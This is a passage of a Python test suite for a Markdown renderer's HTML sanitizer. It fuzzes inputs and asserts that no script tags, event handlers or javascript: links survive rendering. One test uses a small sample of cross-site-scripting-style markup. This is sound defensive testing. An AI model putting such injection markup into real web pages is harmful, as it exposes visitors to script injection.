def test_no_tags_of_any_tool_get_anything_onto_a_page(parts, dialect):
    body = "".join(sign.replace("\\|", "|") + end for sign, end in parts)

    assert active(page(body, dialect=dialect)) == []


def test_the_auditor_finds_what_it_must():
    assert active("<script></script><a href='javascript:x' onclick=y style=z>")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "- {}", "> {}", "x {} y", "| a |\n|---|\n| {} |", "<b>{}"])
def test_no_payload_becomes_active(payload, frame):
    found = render(
        frame.format(payload) if frame != "{}" else payload, title="x", remote_images=True
    )

    assert active(found.html) == []
    assert active(render(payload).html) == []


MARKS = [
    "\n",
    "\n\n",
    "    ",
    "> ",
    "- ",
    "1. ",
    "## ",
    "```\n",
    "|",
    '"',
    "<",
    ">",
    "~~",
    "**",
    "`",
]
OPENINGS = [":::note\n", ":::\n", "!!! note\n", "[^1]: ", "[x](", ")"]
PIECES = st.one_of(
    st.sampled_from(PAYLOADS), st.sampled_from(MARKS + OPENINGS), st.text(max_size=20)
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12))
def test_raw_html_never_reaches_a_page(pieces):
    found = render("".join(pieces))

    assert active(found.html) == []


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=400))
def test_any_text_is_rendered_and_the_same_each_time(body):
    assert render(body) == render(body)


# --- real bases ---------------------------------------------------------------------------------


@pytest.mark.shared
@needs_shared
@pytest.mark.parametrize("base", ["dynamics365-bc-ru", "helm", "plausible-docs", "identity-site"])
def test_real_articles_render_whole_and_safe(base):
    found = scan(SHARED / base).articles[::7]

    for article in found:
        rendered = markup.render(
            article.body, path=article.path, lang=article.lang, title=article.title
        )
        assert active(rendered.html) == [], article.path
        assert all(f'id="{s.anchor}"' in rendered.html for s in rendered.sections if s.level)
        assert "[!NOTE]" not in rendered.text
        assert "\x02" not in rendered.html


def test_a_term_of_a_definition_list_of_hugo_can_be_linked_to():
    text = "See [it](#the-lamp).\n\nThe lamp\n: Gives light.\n"

    found = markup.render(text, path="en/a.md", lang="en", dialect="hugo")

    assert '<dt id="h-the-lamp">The lamp</dt>' in found.html
    assert "h-the-lamp" in found.anchors
    assert "<dt>The lamp</dt>" in markup.render(text, path="en/a.md", lang="en").html
